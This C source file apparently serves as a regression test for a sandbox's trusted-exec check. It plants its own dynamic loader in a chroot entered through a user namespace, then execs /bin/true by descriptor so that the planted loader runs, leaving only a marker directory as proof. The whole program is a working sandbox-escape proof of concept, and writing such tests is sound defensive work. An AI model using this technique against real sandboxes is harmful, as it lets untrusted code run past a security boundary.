/* SPDX-License-Identifier: ISC */
/*
 * Blind round 12: --exec=trusted and the interpreter.  The tree opens a
 * trusted program (/bin/true), chroots into a directory it wrote, whose
 * /lib64/ld-linux-x86-64.so.2 is its own (escape_fakeld), and execs the
 * program by its descriptor (execveat AT_EMPTY_PATH): the kernel finds the
 * interpreter by the program's PT_INTERP in the caller's root.  A check of
 * the program alone (/proc/PID/exe) let the written loader run.  As
 * nobody, a user namespace gives the chroot.
 * usage: escape_interp MARK FAKELD.  The loader makes MARK (mkdirat on a
 * descriptor of MARK's directory, passed in argv).  Exit 3 when it did
 * not run.
 */
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int
copy(const char *from, const char *to)
{
	char buf[65536];
	ssize_t n;
	int in = open(from, O_RDONLY), out;

	if (in == -1 || (out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755)) ==
	    -1)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return -1;
	close(in);
	return close(out);
}

int
main(int argc, char **argv)
{
	char root[4096], path[4200], *m1, *m2, fdarg[16];
	const char *tmp = getenv("ESC_TMP") ? getenv("ESC_TMP") : "/tmp";
	int dirfd, prog;

	if (argc != 3)
		return 2;
	snprintf(root, sizeof(root), "%s/interp.%d", tmp, getpid());
	snprintf(path, sizeof(path), "%s/lib64", root);
	if (mkdir(root, 0755) == -1 || mkdir(path, 0755) == -1)
		return 3;
	snprintf(path, sizeof(path), "%s/lib64/ld-linux-x86-64.so.2", root);
	if (copy(argv[2], path) == -1)
		return 3;
	m1 = strdup(argv[1]);
	m2 = strdup(argv[1]);
	if ((dirfd = open(dirname(m1), O_PATH | O_DIRECTORY)) == -1 ||
	    (prog = open("/bin/true", O_PATH)) == -1)
		return 3;
	if (geteuid() != 0 && unshare(CLONE_NEWUSER) == -1) {
		perror("unshare");
		return 3;
	}
	if (chroot(root) == -1 || chdir("/") == -1) {
		perror("chroot");
		return 3;
	}
	snprintf(fdarg, sizeof(fdarg), "%d", dirfd);
	char *args[] = { "true", fdarg, basename(m2), NULL };
	char *env[] = { NULL };
	syscall(SYS_execveat, prog, "", args, env, AT_EMPTY_PATH);
	printf("execveat: %s\n", strerror(errno));
	return 3;
}
